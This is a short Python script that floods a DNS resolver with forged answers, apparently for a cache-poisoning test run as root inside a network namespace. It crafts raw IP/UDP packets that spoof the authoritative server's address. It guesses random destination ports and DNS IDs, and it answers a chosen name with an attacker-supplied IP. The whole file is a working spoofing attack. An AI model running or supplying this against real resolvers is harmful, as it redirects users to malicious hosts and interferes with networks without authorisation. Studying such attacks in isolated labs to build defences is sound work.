"""Floods forged DNS answers at a resolver's likely source ports (run inside a namespace, root).

    spoofer.py SERVER_IP SERVER_PORT TARGET_IP NAME FORGED_IP COUNT

Each datagram claims to come from SERVER_IP:SERVER_PORT (raw socket, IP_HDRINCL), goes to a
random port of TARGET_IP with a random DNS ID, answers NAME with FORGED_IP. Prints how many it
sent.
"""

import random
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def answer(name: str, forged: str, query_id: int) -> bytes:
    qname = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    header = struct.pack("!6H", query_id, 0x8180, 1, 1, 0, 0)
    question = qname + struct.pack("!HH", 1, 1)
    record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 3600, 4) + socket.inet_aton(forged)
    return header + question + record


def main() -> None:
    server, server_port, target, name, forged, count = sys.argv[1:7]
    src, dst = socket.inet_aton(server), socket.inet_aton(target)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    for _ in range(int(count)):
        payload = answer(name, forged, random.getrandbits(16))
        port = random.randint(1024, 65535)
        udp = struct.pack("!HHHH", int(server_port), port, 8 + len(payload), 0)
        pseudo = src + dst + struct.pack("!BBH", 0, 17, len(udp) + len(payload))
        udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp + payload) or 0xFFFF)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(payload), 0, 0, 64, 17,
                         0, src, dst)
        try:
            sock.sendto(ip + udp + payload, (target, 0))
            sent += 1
        except OSError:
            pass
    print(sent, flush=True)


if __name__ == "__main__":
    main()
